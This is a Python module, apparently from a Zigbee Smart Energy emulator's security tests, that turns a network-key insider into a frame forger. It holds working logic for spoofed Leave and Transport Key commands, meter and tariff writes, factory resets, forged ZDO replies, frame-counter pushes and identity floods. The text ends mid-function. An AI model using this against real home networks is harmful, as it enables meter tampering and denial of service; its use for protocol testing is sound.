"""What a node holding the network key can learn and forge on a ZigBee PRO / ZSE HAN (sans-IO).

Security testing of a Smart Energy HAN starts from a hostile insider: every joined device
holds the network key (ZigBee PRO 05-3474 4.3), so it can decrypt every NWK frame on the
channel and make NWK frames with a valid MIC claiming any source.  What protects the HAN
from such a node is APS link-key security (4.4, ZSE 5.4.6) and the trust centre's rules,
not the network key.  This module is the attacker's half, in two parts:

 - L{HanKnowledge}: fed with every PSDU heard on the channel (L{HanKnowledge.observe}), it
   learns what the network key reveals: short address <-> EUI-64 pairs (MAC source, NWK
   source IEEE, the auxiliary header's extended nonce), each sender's NWK frame counter, the
   key sequence number, who talks to whom (profile, cluster, endpoints), sleepy devices (MAC
   Data Requests), ZDO transactions in flight (ZDP is secured by the network key only) and
   acknowledged APS frames in flight (the APS header is authenticated, not encrypted).
 - L{Forger} and the attack classes of L{ATTACK_CLASSES}: each class is a function
   C{(knowledge, forger, rng) -> Forgery | None} that builds one correctly NWK-secured frame
   (valid MIC under the network key, a frame counter that passes the receiver's replay
   check) carrying what the class forges.  Everything random comes from the C{rng} given:
   the same seed forges the same bytes.

Nothing here does I/O or keeps time: the device (L{emulator.devices.insider}) puts the
frames on the air and keeps the ledger of what they caused.
"""

from __future__ import annotations

import random
from collections import deque
from dataclasses import dataclass
from typing import Callable

from protocols.errors import CodecError
from protocols.ieee802154.frames import (ADDR_SHORT, FRAME_COMMAND, FRAME_DATA, decode_mac,
                                         encode_data_frame)
from protocols.zcl import foundation as zf
from protocols.zcl.frame import (DIRECTION_CLIENT_TO_SERVER, DIRECTION_SERVER_TO_CLIENT, FRAME_TYPE_CLUSTER,
                                 FRAME_TYPE_GLOBAL, ZclFrame, encode_zcl)
from protocols.zigbee import aps as _aps
from protocols.zigbee import nwk as _nwk
from protocols.zigbee import zdo as _zdo
from protocols.zigbee.security import KEY_ID_DATA, KEY_ID_NETWORK, secure_aps, secure_nwk, unsecure_nwk

__all__ = ["HanKnowledge", "Node", "Forger", "Forgery", "ATTACK_CLASSES", "COUNTER_PUSH_FLOOR"]

PROFILE_SE = _aps.PROFILE_SMART_ENERGY
PROFILE_ZDP = _aps.PROFILE_ZDP
#: Smart Energy clusters the forgers aim at (ZCL / ZSE identifiers)
CLUSTER_BASIC = 0x0000
CLUSTER_TIME = 0x000A
CLUSTER_PRICE = 0x0700
CLUSTER_METERING = 0x0702
CLUSTER_TUNNELING = 0x0704
CLUSTER_KEY_ESTABLISHMENT = 0x0800
#: a frame counter this close to 2^32 - 1 leaves its sender no room at the receiver
COUNTER_PUSH_FLOOR = 0xFFFFFF00
#: ZCL data types used by the forgers
_U8, _U16, _U32, _U48, _UTC, _BITMAP8, _ENUM8, _I32, _STRING = 0x20, 0x21, 0x23, 0x25, 0xE2, 0x18, 0x30, 0x2B, 0x42
#: an OUI block for fresh identities (locally administered: bit 1 of the first octet)
_FRESH_OUI = 0x0A5A_0000_0000_0000


class Node:
    """What the insider knows about one node of the HAN."""

    __slots__ = ("short", "eui", "counter", "sleepy", "endpoints")

    def __init__(self, short: int, eui: int | None) -> None:
        self.short = short
        self.eui = eui
        self.counter = -1        # the highest NWK frame counter seen from it (its EUI-64 as source)
        self.sleepy = False      # it polls its parent (MAC Data Request)
        self.endpoints: set[tuple[int, int, int]] = set()  # (endpoint, profile, cluster) it sent from


@dataclass(frozen=True, slots=True)
class Talk:
    """One APS data flow seen on the channel (NWK source -> NWK destination)."""

    src: int
    dst: int
    profile: int
    cluster: int
    src_endpoint: int
    dst_endpoint: int


@dataclass(frozen=True, slots=True)
class InFlight:
    """Something heard that a forger can answer before the real peer does."""

    at: float
    src: int          # the requester (NWK short)
    dst: int          # the peer it asked (NWK short)
    kind: str         # "zdo" (ZDP request) or "aps" (an APS frame asking for an ack)
    cluster: int
    tsn_or_counter: int
    talk: Talk | None = None
    aps_command: bool = False


class HanKnowledge:
    """The insider's view of the HAN, learnt from frames it hears.  See the module docstring.

    @param network_key: C{key_for(key_seq) -> key | None}: the network keys the insider holds.
    @param own_short: C{() -> short}: the insider's own address (its frames are not learnt).
    """

    RECENT = 64
    #: distinct APS flows remembered (answers to fresh identities would grow it without end)
    MAX_TALKS = 4096

    def __init__(self, network_keys: Callable[[int], bytes | None], own_short: Callable[[], int | None],
                 pan_id: Callable[[], int | None]) -> None:
        self._keys = network_keys
        self._own = own_short
        self._pan = pan_id
        self.by_short: dict[int, Node] = {}
        self.by_eui: dict[int, Node] = {}
        self.key_seq = 0
        self.talks: dict[Talk, int] = {}
        #: indexes of L{talks}: who sends to a node; a node's endpoints by cluster
        self.senders_to: dict[int, set[int]] = {}
        self.endpoints_at: dict[tuple[int, int], set[int]] = {}
        self.in_flight: deque[InFlight] = deque(maxlen=self.RECENT)
        self.recent: deque[tuple[_nwk.NwkFrame, int]] = deque(maxlen=self.RECENT)  # (plaintext frame, src EUI)
        self.frames_heard = 0
        self.frames_decrypted = 0
        #: called with every NWK frame decrypted (and its APS header, if a data/command/ack frame)
        self.listener: Callable[[_nwk.NwkFrame, _aps.ApsFrame | None], None] | None = None

    @property
    def pan_id(self) -> int | None:
        return self._pan()

    def node(self, short: int) -> Node:
        n = self.by_short.get(short)
        if n is None:
            n = self.by_short[short] = Node(short, None)
        return n

    def _pair(self, short: int, eui: int | None) -> Node | None:
        if short >= 0xFFF8 or short == self._own():
            return None
        n = self.node(short)
        if eui is not None:
            old = self.by_eui.get(eui)
            if old is not None and old is not n:
                # the device moved to a new address: its old entry goes
                n.counter = max(n.counter, old.counter)
                n.sleepy = n.sleepy or old.sleepy
                if self.by_short.get(old.short) is old:
                    del self.by_short[old.short]
            n.eui = eui
            self.by_eui[eui] = n
        return n

    def nodes(self) -> list[Node]:
        """Known nodes with both addresses (the insider excluded), in address order."""
        own = self._own()
        return [n for s, n in sorted(self.by_short.items()) if n.eui is not None and s != own]

    def counter_of(self, eui: int) -> int:
        n = self.by_eui.get(eui)
        return n.counter if n is not None else -1

    def bump_counter(self, eui: int, counter: int) -> None:
        """Remember a counter the insider itself used in a frame claiming C{eui}."""
        n = self.by_eui.get(eui)
        if n is not None and counter > n.counter:
            n.counter = counter

    def observe(self, psdu: bytes, now: float) -> None:
        """Learn from one PSDU heard on the channel.  Never raises."""
        self.frames_heard += 1
        try:
            heard = self._observe(psdu, now)
        except CodecError:
            return
        if heard is not None and self.listener is not None:
            self.listener(*heard)

    def _observe(self, psdu: bytes, now: float) -> tuple[_nwk.NwkFrame, _aps.ApsFrame | None] | None:
        mac = decode_mac(psdu)
        own = self._own()
        if mac.frame_type == FRAME_COMMAND:
            if mac.payload[:1] == b"\x04" and mac.src_mode == ADDR_SHORT and mac.src_addr != own:
                self.node(mac.src_addr).sleepy = True  # a Data Request: it sleeps and polls
            return
        if mac.frame_type != FRAME_DATA or len(mac.payload) < 2:
            return
        data = mac.payload
        if not data[1] & 0x02:
            return
        try:
            frame, aux = unsecure_nwk(data, lambda a: self._keys(a.key_seq))
        except CodecError:
            return
        self.frames_decrypted += 1
        self.key_seq = aux.key_seq if aux.key_seq is not None else self.key_seq
        if frame.src == own:
            return
        if mac.src_mode == ADDR_SHORT and aux.source is not None:
            hop = self._pair(mac.src_addr, aux.source)
            if hop is not None and aux.frame_counter > hop.counter:
                hop.counter = aux.frame_counter
        origin = self._pair(frame.src, frame.src_ieee)
        if origin is None or origin.eui is None:
            return
        self.recent.append((frame, origin.eui))
        if frame.frame_type != _nwk.NWK_FRAME_DATA or not frame.payload:
            return frame, None
        head = _aps.decode_aps(frame.payload)
        if head.frame_type == _aps.APS_FRAME_DATA and head.cluster is not None:
            talk = Talk(frame.src, frame.dst, head.profile, head.cluster, head.src_endpoint or 0,
                        head.dst_endpoint if head.dst_endpoint is not None else 0xFF)
            seen = self.talks.get(talk)
            if seen is not None:
                self.talks[talk] = seen + 1
            elif len(self.talks) < self.MAX_TALKS:
                self.talks[talk] = 1
                if talk.src != talk.dst:
                    self.senders_to.setdefault(talk.dst, set()).add(talk.src)
                if talk.dst_endpoint not in (0, 0xFF):
                    self.endpoints_at.setdefault((talk.dst, talk.cluster), set()).add(talk.dst_endpoint)
            origin.endpoints.add((talk.src_endpoint, talk.profile, talk.cluster))
            if head.profile == PROFILE_ZDP and head.cluster < 0x8000 and not head.security and head.payload:
                self.in_flight.append(InFlight(now, frame.src, frame.dst, "zdo", head.cluster, head.payload[0]))
            elif head.ack_request and frame.dst < 0xFFF8:
                self.in_flight.append(InFlight(now, frame.src, frame.dst, "aps", head.cluster, head.counter, talk))
        elif head.frame_type == _aps.APS_FRAME_COMMAND and head.ack_request and frame.dst < 0xFFF8:
            self.in_flight.append(InFlight(now, frame.src, frame.dst, "aps", 0, head.counter, None, True))
        return frame, head

    def fresh(self, kind: str, now: float, max_age: float) -> InFlight | None:
        """The newest in-flight item of C{kind} heard less than C{max_age} s ago (taken)."""
        for i in range(len(self.in_flight) - 1, -1, -1):
            item = self.in_flight[i]
            if now - item.at > max_age:
                break
            if item.kind == kind:
                del self.in_flight[i]
                return item
        return None


@dataclass(frozen=True, slots=True)
class Forgery:
    """One forged frame: the PSDU, who it is aimed at and whom it claims to come from."""

    psdu: bytes
    victim: int      # NWK destination (a short address, or a broadcast address)
    claimed: int     # NWK source it claims
    what: str        # a short description (command / cluster)


class Forger:
    """Builds frames that are correct on the air: MAC header, NWK header secured with the
    network key (valid MIC), APS frame unsecured, APS-secured with the network key (key id 1) or
    with a key the insider does not share (its MIC cannot verify)."""

    def __init__(self, knowledge: HanKnowledge, network_key: Callable[[], tuple[bytes | None, int]],
                 own_short: Callable[[], int | None], own_eui: int, rng: random.Random) -> None:
        self.kb = knowledge
        self._network_key = network_key
        self._own_short = own_short
        self.own_eui = own_eui
        self.rng = rng
        self._own_counter = 0x4000_0000 + rng.randrange(0x1000)

    @property
    def own_short(self) -> int | None:
        return self._own_short()

    def counter_for(self, eui: int, *, push: bool = False) -> int:
        """A NWK frame counter for a frame claiming C{eui}: just above what it last sent (or
        near 2^32 to push the receiver's replay window ahead)."""
        if eui == self.own_eui:
            self._own_counter += 1
            return self._own_counter
        if push:
            # not remembered: the next ordinary spoof keeps following the real sender
            return COUNTER_PUSH_FLOOR + self.rng.randrange(0xF0)
        value = min(max(self.kb.counter_of(eui), 0) + 1 + self.rng.randrange(3), COUNTER_PUSH_FLOOR - 1)
        self.kb.bump_counter(eui, value)
        return value

    def nwk(self, *, dst: int, src: int, src_eui: int, payload: bytes, mac_src: int | None = None,
            frame_type: int = _nwk.NWK_FRAME_DATA, radius: int = 1, with_src_ieee: bool = True,
            dst_ieee: int | None = None, counter: int | None = None, what: str = "") -> Forgery | None:
        """The PSDU of a NWK frame from C{src}/C{src_eui} to C{dst}, secured with the network key."""
        key, key_seq = self._network_key()
        pan = self.kb.pan_id
        if key is None or pan is None:
            return None
        rng = self.rng
        frame = _nwk.NwkFrame(dst, src, rng.randrange(256), payload, frame_type,
                              discover_route=0 if dst >= 0xFFF8 else 1, security=True, radius=radius,
                              dst_ieee=dst_ieee, src_ieee=src_eui if with_src_ieee else None)
        if counter is None:
            counter = self.counter_for(src_eui)
        try:
            data = secure_nwk(frame, key, counter, src_eui, key_seq)
            mac_dst = 0xFFFF if dst >= 0xFFF8 else dst
            psdu = encode_data_frame(rng.randrange(256), pan, mac_dst, src if mac_src is None else mac_src, data,
                                     ack_request=mac_dst != 0xFFFF)
        except CodecError:
            return None  # too long for one frame: not forgeable as asked
        return Forgery(psdu, dst, src, what)

    def aps_data(self, *, profile: int, cluster: int, src_endpoint: int, dst_endpoint: int, payload: bytes,
                 src_eui: int, security: str = "none", ack: bool = False, counter: int | None = None,
                 fragmentation: int = 0, block_number: int | None = None) -> bytes:
        """An APS data frame: C{security} "none", "network" (key id 1) or "forged_link" (key id 0
        under a key the insider makes up: the receiver cannot verify it)."""
        frame = _aps.ApsFrame(_aps.APS_FRAME_DATA, _aps.APS_DELIVERY_UNICAST,
                              self.rng.randrange(256) if counter is None else counter, dst_endpoint, None, cluster,
                              profile, src_endpoint, payload, security != "none", ack,
                              fragmentation=fragmentation, block_number=block_number)
        return self._secure_aps(frame, src_eui, security)

    def aps_command(self, cmd, *, src_eui: int, security: str = "network", ack: bool = False) -> bytes:
        frame = _aps.ApsFrame(_aps.APS_FRAME_COMMAND, counter=self.rng.randrange(256),
                              payload=_aps.encode_aps_command(cmd), security=security != "none", ack_request=ack)
        return self._secure_aps(frame, src_eui, security)

    def _secure_aps(self, frame: _aps.ApsFrame, src_eui: int, security: str) -> bytes:
        if security == "none":
            return _aps.encode_aps(frame)
        key, key_seq = self._network_key()
        counter = self.rng.randrange(1, 0x10000) if src_eui != self.own_eui else self.counter_for(src_eui)
        if security == "network":
            return secure_aps(frame, key, counter, src_eui, key_id=KEY_ID_NETWORK, key_seq=key_seq)
        made_up = bytes(self.rng.randrange(256) for _ in range(16))
        return secure_aps(frame, made_up, counter, src_eui, key_id=KEY_ID_DATA)

    def fresh_identity(self) -> tuple[int, int]:
        """A (short, EUI-64) pair no node of the HAN uses."""
        rng = self.rng
        while True:
            short = rng.randrange(0x0001, 0xFFF0)
            if short not in self.kb.by_short and short != self.own_short:
                return short, _FRESH_OUI | rng.randrange(1 << 40)


# ---------------------------------------------------------------------------- helpers

def _zcl(frame_type: int, command_id: int, payload: bytes, rng: random.Random, *,
         direction: int = DIRECTION_CLIENT_TO_SERVER, tsn: int | None = None, ddr: bool = False) -> bytes:
    return encode_zcl(ZclFrame(frame_type, command_id, rng.randrange(256) if tsn is None else tsn, payload,
                               direction, ddr, None))


def _global(command, rng: random.Random, **kw) -> bytes:
    return _zcl(FRAME_TYPE_GLOBAL, command.command_id, zf.encode_global(command), rng, **kw)


def _pick_pair(kb: HanKnowledge, rng: random.Random, *, victim_awake: bool = True):
    """(victim, claimed) known nodes: a victim whose receiver is on and a different node it
    could believe (preferably one it talks with)."""
    nodes = kb.nodes()
    if len(nodes) < 2:
        return None
    victims = [n for n in nodes if not n.sleepy] if victim_awake else nodes
    if not victims:
        return None
    victim = rng.choice(victims)
    partners = sorted(kb.senders_to.get(victim.short, ()))
    partners = [kb.by_short[s] for s in partners if s in kb.by_short and kb.by_short[s].eui is not None]
    if not partners or rng.random() < 0.3:
        partners = [n for n in nodes if n is not victim]
    return victim, rng.choice(partners)


def _endpoint_of(kb: HanKnowledge, node: Node, cluster: int, rng: random.Random, default: int = 0x01) -> int:
    """An endpoint of C{node} seen with C{cluster} (as source or destination), or C{default}."""
    eps = sorted(kb.endpoints_at.get((node.short, cluster), set())
                 | {ep for ep, _, c in node.endpoints if c == cluster and ep != 0})
    return rng.choice(eps) if eps else default


def _se_frame(forger: Forger, victim: Node, claimed: Node, cluster: int, zcl: bytes, security: str, what: str,
              *, mac_src: int | None = None, dst_endpoint: int | None = None, src_endpoint: int = 0x01,
              spoof_counter_push: bool = False) -> Forgery | None:
    rng = forger.rng
    ep = dst_endpoint if dst_endpoint is not None else _endpoint_of(forger.kb, victim, cluster, rng)
    aps = forger.aps_data(profile=PROFILE_SE, cluster=cluster, src_endpoint=src_endpoint, dst_endpoint=ep,
                          payload=zcl, src_eui=claimed.eui, security=security, ack=rng.random() < 0.5)
    counter = forger.counter_for(claimed.eui, push=True) if spoof_counter_push else None
    return forger.nwk(dst=victim.short, src=claimed.short, src_eui=claimed.eui, payload=aps, mac_src=mac_src,
                      counter=counter, what=what)


def _se_request(rng: random.Random, victim_is_hub: bool) -> tuple[int, bytes, str]:
    """(cluster, ZCL bytes, description) of a Smart Energy request a device would act on."""
    choice = rng.randrange(9)
    if choice == 0:  # set the HAN's time
        recs = (zf.WriteAttributeRecord(0x0000, _UTC, rng.randrange(1 << 32) & 0xFFFFFFFE),
                zf.WriteAttributeRecord(0x0001, _BITMAP8, rng.randrange(256)))
        return CLUSTER_TIME, _global(zf.WriteAttributes(recs), rng), "write Time/TimeStatus"
    if choice == 1:
        recs = (zf.WriteAttributeRecord(0x0002, _I32, rng.randrange(-86400, 86400)),
                zf.WriteAttributeRecord(0x0004, _I32, rng.randrange(-7200, 7200)))
        return CLUSTER_TIME, _global(zf.WriteAttributes(recs), rng), "write TimeZone/DstShift"
    if choice == 2:  # the tariff's label
        label = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(rng.randrange(1, 12)))
        recs = (zf.WriteAttributeRecord(0x0000, _STRING, label),)
        return CLUSTER_PRICE, _global(zf.WriteAttributes(recs), rng), "write Tier1PriceLabel"
    if choice == 3:  # registers
        recs = (zf.WriteAttributeRecord(0x0000, _U48, rng.randrange(1 << 48)),)
        return CLUSTER_METERING, _global(zf.WriteAttributes(recs), rng), "write CurrentSummationDelivered"
    if choice == 4:  # reporting on arbitrary attributes
        recs = tuple(zf.AttributeReportingConfigurationRecord(0, rng.randrange(0x10000), _U32, 1,
                                                              rng.randrange(2, 0xFFFF), 1)
                     for _ in range(rng.randrange(1, 4)))
        cluster = rng.choice((CLUSTER_METERING, CLUSTER_TIME, CLUSTER_BASIC, CLUSTER_PRICE))
        return cluster, _global(zf.ConfigureReporting(recs), rng), "configure reporting"
    if choice == 5:
        cluster = rng.choice((CLUSTER_METERING, CLUSTER_TIME, CLUSTER_BASIC))
        attrs = tuple(rng.choice((0x0000, 0x0001, 0x0002, 0x0400, 0x0300)) for _ in range(rng.randrange(1, 5)))
        return cluster, _global(zf.ReadAttributes(attrs), rng), "read attributes"
    if choice == 6:  # GetCurrentPrice
        return CLUSTER_PRICE, _zcl(FRAME_TYPE_CLUSTER, 0x00, bytes((0,)), rng), "GetCurrentPrice"
    if choice == 7:  # Basic: reset to factory defaults (cluster command 0x00)
        return CLUSTER_BASIC, _zcl(FRAME_TYPE_CLUSTER, 0x00, b"", rng), "Basic reset to factory defaults"
    recs = (zf.WriteAttributeRecord(0x0010, _STRING, "X" * rng.randrange(1, 16)),)
    return CLUSTER_BASIC, _global(zf.WriteAttributes(recs), rng), "write LocationDescription"


# ---------------------------------------------------------------------------- attack classes

def forge_nwk_command(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """NWK commands claiming a known node (or a fresh identity): Leave, Rejoin Request,
    Network Status, Link Status, Route Request / Record, End Device Timeout Request."""
    pair = _pick_pair(kb, rng)
    if pair is None:
        return None
    victim, claimed = pair
    src, eui = (claimed.short, claimed.eui) if rng.random() < 0.7 else f.fresh_identity()
    k = rng.randrange(7)
    if k == 0:
        cmd = _nwk.Leave(rejoin=rng.random() < 0.5, request=rng.random() < 0.3, remove_children=False)
    elif k == 1:
        cmd = _nwk.RejoinRequest(rng.choice((0x80, 0x8E, 0x8C)))
    elif k == 2:
        cmd = _nwk.NetworkStatus(rng.randrange(0x14), rng.choice([n.short for n in kb.nodes()]))
    elif k == 3:
        cmd = _nwk.LinkStatus(tuple(_nwk.LinkStatusEntry(n.short, rng.randrange(1, 8), rng.randrange(1, 8))
                                    for n in kb.nodes()[:6]))
    elif k == 4:
        cmd = _nwk.RouteRequest(rng.randrange(256), rng.choice([n.short for n in kb.nodes()]), rng.randrange(8))
    elif k == 5:
        cmd = _nwk.RouteRecord(tuple(rng.randrange(0xFFF0) for _ in range(rng.randrange(1, 4))))
    else:
        cmd = _nwk.EndDeviceTimeoutRequest(rng.randrange(15))
    dst = victim.short if rng.random() < 0.8 else rng.choice((0xFFFF, 0xFFFD, 0xFFFC))
    return f.nwk(dst=dst, src=src, src_eui=eui, payload=_nwk.encode_nwk_command(cmd),
                 frame_type=_nwk.NWK_FRAME_COMMAND, what=type(cmd).__name__)


def _zcl_class(security: str):
    def forge(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
        pair = _pick_pair(kb, rng)
        if pair is None:
            return None
        victim, claimed = pair
        cluster, zcl, what = _se_request(rng, victim.short == 0x0000)
        return _se_frame(f, victim, claimed, cluster, zcl, security, what)
    forge.__doc__ = (f"Smart Energy ZCL requests claiming a known peer, APS security {security!r}: Write "
                     "Attributes on Time / Price / Metering / Basic, Configure Reporting, reads, cluster commands.")
    return forge


forge_zcl_unsecured = _zcl_class("none")
forge_zcl_network_key = _zcl_class("network")


def forge_aps_command(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """APS commands from a source that is not the trust centre (or claims to be it): Request
    Key naming any requester and partner, Transport Key (network key, application and TC link
    keys), Switch Key, Update Device, Remove Device; unsecured, key id 1, or an unverifiable
    link-key MIC."""
    pair = _pick_pair(kb, rng)
    if pair is None:
        return None
    victim, claimed = pair
    nodes = kb.nodes()
    some = rng.choice(nodes)
    key = bytes(rng.randrange(256) for _ in range(16))
    k = rng.randrange(6)
    if k == 0:
        victim = kb.by_short.get(0x0000, victim)
        partner = rng.choice([n for n in nodes if n is not claimed] or nodes)
        cmd = _aps.RequestKey(_aps.KEY_TYPE_APP_MASTER, partner.eui)
    elif k == 1:
        cmd = _aps.TransportKey(_aps.KEY_TYPE_STANDARD_NETWORK, key, (kb.key_seq + rng.randrange(1, 4)) & 0xFF,
                                victim.eui, claimed.eui)
    elif k == 2:
        cmd = _aps.TransportKey(_aps.KEY_TYPE_APP_LINK, key, partner_ieee=some.eui, initiator=rng.random() < 0.5)
    elif k == 3:
        cmd = _aps.SwitchKey((kb.key_seq + rng.randrange(0, 4)) & 0xFF)
    elif k == 4:
        victim = kb.by_short.get(0x0000, victim)
        short, eui = (some.short, f.fresh_identity()[1]) if rng.random() < 0.5 else f.fresh_identity()
        cmd = _aps.UpdateDevice(eui, short, rng.randrange(4))
    else:
        cmd = _aps.RemoveDevice(some.eui)
    if rng.random() < 0.4 and 0x0000 in kb.by_short and victim.short != 0x0000:
        claimed = kb.by_short[0x0000]  # "from the trust centre"
    if victim is claimed:
        return None
    security = rng.choice(("none", "network", "network", "forged_link"))
    aps = f.aps_command(cmd, src_eui=claimed.eui, security=security, ack=rng.random() < 0.5)
    return f.nwk(dst=victim.short, src=claimed.short, src_eui=claimed.eui, payload=aps,
                 what=f"{type(cmd).__name__} ({security})")


def _zdp(f: Forger, victim_short: int, claimed_short: int, claimed_eui: int, message, tsn: int, what: str,
         rng: random.Random, mac_src: int | None = None) -> Forgery | None:
    aps = f.aps_data(profile=PROFILE_ZDP, cluster=message.CLUSTER_ID, src_endpoint=0, dst_endpoint=0,
                     payload=_zdo.encode_zdp(tsn, message), src_eui=claimed_eui, ack=rng.random() < 0.3)
    return f.nwk(dst=victim_short, src=claimed_short, src_eui=claimed_eui, payload=aps, mac_src=mac_src, what=what)


def _forged_zdo_response(item: InFlight, kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """A response to a ZDP request just heard, from the node it asked, with its TSN."""
    if item.dst >= 0xFFF8:  # a broadcast request (Match_Desc): any node may answer
        others = [n for n in kb.nodes() if n.short != item.src]
        asked = rng.choice(others) if others else None
    else:
        asked = kb.by_short.get(item.dst)
    if asked is None or asked.eui is None:
        return None
    rsp_cluster = item.cluster | 0x8000
    status = rng.choice((0, 0, 0x80, 0x81, 0x89))
    if rsp_cluster == _zdo.SimpleDescRsp.CLUSTER_ID:
        desc = _zdo.SimpleDescriptor(rng.randrange(1, 241), rng.choice((PROFILE_SE, 0x0104, rng.randrange(0x10000))),
                                     rng.randrange(0x10000), 0,
                                     tuple(rng.randrange(0x10000) for _ in range(rng.randrange(4))),
                                     tuple(rng.randrange(0x10000) for _ in range(rng.randrange(4))))
        msg = _zdo.SimpleDescRsp(status, asked.short, desc if status == 0 else None)
    elif rsp_cluster == _zdo.ActiveEpRsp.CLUSTER_ID:
        msg = _zdo.ActiveEpRsp(status, asked.short, tuple(rng.randrange(1, 241) for _ in range(rng.randrange(5))))
    elif rsp_cluster == _zdo.MatchDescRsp.CLUSTER_ID:
        fake, _ = f.fresh_identity()
        msg = _zdo.MatchDescRsp(status, rng.choice((fake, asked.short)), (rng.randrange(1, 241),))
    elif rsp_cluster == _zdo.NodeDescRsp.CLUSTER_ID:
        msg = _zdo.NodeDescRsp(rng.choice((0x80, 0x81, 0x89)), asked.short, None)
    elif rsp_cluster == _zdo.NwkAddrRsp.CLUSTER_ID:
        fake, _ = f.fresh_identity()
        msg = _zdo.NwkAddrRsp(0, asked.eui, fake)
    elif rsp_cluster == _zdo.IeeeAddrRsp.CLUSTER_ID:
        msg = _zdo.IeeeAddrRsp(0, f.fresh_identity()[1], asked.short)
    else:
        return None
    return _zdp(f, item.src, asked.short, asked.eui, msg, item.tsn_or_counter, f"forged {type(msg).__name__}", rng)


def forge_zdo(kb: HanKnowledge, f: Forger, rng: random.Random, now: float = 0.0) -> Forgery | None:
    """ZDO: answers to ZDP requests just heard (matching TSN, from the node asked: join-time
    discovery included), Device_annce with conflicting (address, EUI-64) pairs, Mgmt_Leave_req,
    Mgmt_Permit_Joining_req, address requests."""
    item = kb.fresh("zdo", now, 2.0)
    if item is not None:
        forged = _forged_zdo_response(item, kb, f, rng)
        if forged is not None:
            return forged
    pair = _pick_pair(kb, rng)
    if pair is None:
        return None
    victim, claimed = pair
    nodes = kb.nodes()
    k = rng.randrange(5)
    tsn = rng.randrange(256)
    if k <= 1:
        # Device_annce: a known EUI-64 at a new address, or a known address for a fresh EUI-64
        some = rng.choice(nodes)
        fresh_short, fresh_eui = f.fresh_identity()
        short, eui = (fresh_short, some.eui) if k == 0 else (some.short, fresh_eui)
        msg = _zdo.DeviceAnnce(short, eui, rng.choice((0x80, 0x8E, 0x84)))
        claimed_short, claimed_eui = (short, eui) if rng.random() < 0.5 else (claimed.short, claimed.eui)
        return _zdp(f, 0xFFFD if rng.random() < 0.5 else victim.short, claimed_short, claimed_eui, msg, tsn,
                    "Device_annce", rng, mac_src=f.own_short if rng.random() < 0.5 else None)
    if k == 2:
        msg = _zdo.MgmtLeaveReq(victim.eui if rng.random() < 0.5 else 0, rejoin=rng.random() < 0.5)
    elif k == 3:
        msg = _zdo.MgmtPermitJoiningReq(rng.choice((0, 0xFE, 0xFF, 60)))
    else:
        msg = _zdo.NwkAddrReq(rng.choice(nodes).eui)
    return _zdp(f, victim.short, claimed.short, claimed.eui, msg, tsn, type(msg).__name__, rng)


def forge_counter_push(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """A known node's EUI-64 with a NWK frame counter near 2^32: accepted, it would leave that
    node's real frames below the receiver's replay window."""
    pair = _pick_pair(kb, rng)
    if pair is None:
        return None
    victim, claimed = pair
    if rng.random() < 0.5:
        cluster, zcl, what = _se_request(rng, victim.short == 0x0000)
        return _se_frame(f, victim, claimed, cluster, zcl, rng.choice(("none", "network", "forged_link")),
                         f"counter push ({what})", spoof_counter_push=True)
    cmd = _nwk.LinkStatus(())
    return f.nwk(dst=victim.short, src=claimed.short, src_eui=claimed.eui, payload=_nwk.encode_nwk_command(cmd),
                 frame_type=_nwk.NWK_FRAME_COMMAND, counter=f.counter_for(claimed.eui, push=True),
                 what="counter push (Link Status)")


def forge_identity_flood(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """One frame from a fresh (address, EUI-64) each time: reads, first blocks of fragmented
    ASDUs, Device_annce, route records, Configure Reporting (every table keyed by a sender)."""
    victims = [n for n in kb.nodes() if not n.sleepy]
    if not victims:
        return None
    victim = rng.choice(victims)
    short, eui = f.fresh_identity()
    k = rng.randrange(5)
    if k == 0:
        zcl = _global(zf.ReadAttributes((0x0000,)), rng)
        aps = f.aps_data(profile=PROFILE_SE, cluster=CLUSTER_METERING, src_endpoint=1,
                         dst_endpoint=_endpoint_of(kb, victim, CLUSTER_METERING, rng),
                         payload=zcl, src_eui=eui, security=rng.choice(("none", "network")), ack=True)
        what = "read from a fresh identity"
    elif k == 1:
        aps = f.aps_data(profile=PROFILE_SE, cluster=CLUSTER_TUNNELING, src_endpoint=1, dst_endpoint=1,
                         payload=bytes(rng.randrange(256) for _ in range(40)), src_eui=eui,
                         security=rng.choice(("none", "network")), ack=True,
                         fragmentation=_aps.APS_FRAGMENTATION_FIRST, block_number=rng.randrange(2, 30))
        what = "first block of a fragmented ASDU"
    elif k == 2:
        msg = _zdo.DeviceAnnce(short, eui, 0x8E)
        aps = f.aps_data(profile=PROFILE_ZDP, cluster=msg.CLUSTER_ID, src_endpoint=0, dst_endpoint=0,
                         payload=_zdo.encode_zdp(rng.randrange(256), msg), src_eui=eui)
        what = "Device_annce of a fresh identity"
    elif k == 3:
        recs = tuple(zf.AttributeReportingConfigurationRecord(0, rng.randrange(0x10000), _U32, 1,
                                                              rng.randrange(2, 0xFFFF), 1) for _ in range(3))
        aps = f.aps_data(profile=PROFILE_SE, cluster=CLUSTER_METERING, src_endpoint=1,
                         dst_endpoint=_endpoint_of(kb, victim, CLUSTER_METERING, rng),
                         payload=_global(zf.ConfigureReporting(recs), rng), src_eui=eui, security="network")
        what = "Configure Reporting from a fresh identity"
    else:
        return f.nwk(dst=victim.short, src=short, src_eui=eui, frame_type=_nwk.NWK_FRAME_COMMAND,
                     payload=_nwk.encode_nwk_command(_nwk.RouteRecord((short,))), what="Route Record")
    return f.nwk(dst=victim.short, src=short, src_eui=eui, payload=aps, what=what,
                 mac_src=f.own_short if rng.random() < 0.5 else None)


def forge_relay_gsme(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """Requests "from" a sleepy device (the GSME), relayed by the insider (MAC source: itself)
    to the hub: every answer has to wait in the hub's queue for the sleeper's next poll."""
    sleepers = [n for n in kb.nodes() if n.sleepy]
    hub = kb.by_short.get(0x0000)
    if not sleepers or hub is None or hub.eui is None:
        return None
    sleeper = rng.choice(sleepers)
    k = rng.randrange(4)
    if k == 0:
        cluster, zcl, what = CLUSTER_TIME, _global(zf.ReadAttributes((0x0000, 0x0001)), rng), "read Time"
    elif k == 1:
